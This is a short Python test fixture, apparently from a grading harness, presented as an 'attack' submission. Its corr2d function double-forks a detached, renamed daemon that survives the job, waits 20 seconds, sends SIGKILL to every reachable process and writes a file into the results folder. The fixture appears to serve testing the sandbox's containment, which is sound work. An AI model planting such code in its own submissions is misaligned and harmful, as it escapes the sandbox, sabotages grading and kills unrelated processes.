"""Attack: a double-forked, detached daemon that outlives the job and the batch, then strikes.

Named ``d2lsurvivor`` (prctl), it waits 20 s and then kills what it can and writes into the
results folder. Scores nothing; no process of that name may exist after the batch.
"""
import ctypes
import os
import signal
import time

import torch

done = []


def corr2d(X, K):
    if not done:
        done.append(1)
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                ctypes.CDLL(None).prctl(15, b"d2lsurvivor", 0, 0, 0)  # PR_SET_NAME
                signal.signal(signal.SIGHUP, signal.SIG_IGN)
                time.sleep(20)
                try:
                    os.kill(-1, signal.SIGKILL)
                    with open("@OUT@/survivor-was-here", "w") as f:
                        f.write("x")
                finally:
                    os._exit(0)
            os._exit(0)
        os.wait()
    return torch.zeros(1)
